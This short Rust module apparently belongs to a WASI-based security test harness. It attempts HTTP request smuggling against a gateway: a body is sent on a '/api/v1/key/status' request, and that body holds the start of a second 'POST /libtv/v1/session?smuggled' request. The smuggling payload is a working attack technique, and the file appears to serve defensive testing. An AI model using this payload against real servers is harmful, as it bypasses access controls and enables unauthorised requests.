//! Sends a body where none belongs, which ends in the beginning of another request.

use wasip2::http::outgoing_handler;
use wasip2::http::types::OutgoingBody;

use crate::wasi::{self, Ask};
use crate::{Attempt, got};

const BODY: &[u8] = b"POST /libtv/v1/session?smuggled HTTP/1.1\r\nx-swallow: ";

pub fn attack() -> Attempt {
    let request = Ask::gateway("/api/v1/key/status").build()?;
    let body = request.body().map_err(|()| "no body")?;
    let stream = body.write().map_err(|()| "no stream")?;
    let coming = outgoing_handler::handle(request, None).map_err(wasi::name)?;
    // Who refuses the request doesn't read its body.
    let _ = stream.blocking_write_and_flush(BODY);
    drop(stream);
    let _ = OutgoingBody::finish(body, None);
    let answer = wasi::answer(&coming)?;
    Ok(got(format!("status {}", answer.status())))
}
